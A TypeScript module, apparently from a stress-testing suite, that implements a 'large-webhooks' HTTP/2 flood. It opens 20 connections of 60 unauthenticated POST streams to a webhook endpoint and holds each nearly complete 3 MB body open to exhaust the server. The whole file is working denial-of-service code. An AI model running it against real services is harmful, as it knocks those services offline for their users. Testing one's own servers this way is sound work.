/** Requests that need no credentials, with bodies that are held: webhooks of git hosts. */
import { connect } from "node:http2";
import type { ClientHttp2Session } from "node:http2";
import { setTimeout as sleep } from "node:timers/promises";
import type { Attack, AttackTarget } from "../attack.ts";

const connections = 20;
const streams = 60;
const partBytes = 65_536;
/** The largest body of a webhook. */
const bodyBytes = 3 * 1_048_576;

export const attacks: readonly Attack[] = [
  {
    name: "large-webhooks",
    run: async (target, signal) => {
      await Promise.all(Array.from({ length: connections }, () => flood(target, signal)));
    },
  },
];

/** Opens a stream again when the server ends one, and the connection when it ends that. */
async function flood(target: AttackTarget, signal: AbortSignal): Promise<void> {
  while (!signal.aborted) {
    const session = connect(`https://${target.host}:${target.port}`, { ca: target.ca });
    session.setMaxListeners(0);
    session.on("error", () => undefined);
    let open = 0;
    while (!signal.aborted && !session.destroyed) {
      for (; open < streams && !session.destroyed; open += 1) send(session, () => (open -= 1));
      await sleep(5);
    }
    session.destroy();
  }
}

/** All but the last bytes of a body. */
function send(session: ClientHttp2Session, onEnd: () => void): void {
  const path = "/api/v1/gitops/webhooks/attacker/none";
  const head = { ":method": "POST", ":path": path, "content-length": String(bodyBytes) };
  const stream = session.request(head, { endStream: false });
  stream.on("error", () => undefined);
  stream.once("close", onEnd);
  stream.resume();
  for (let sent = partBytes; sent < bodyBytes; sent += partBytes) stream.write(part);
}

const part = Buffer.alloc(partBytes, " ");
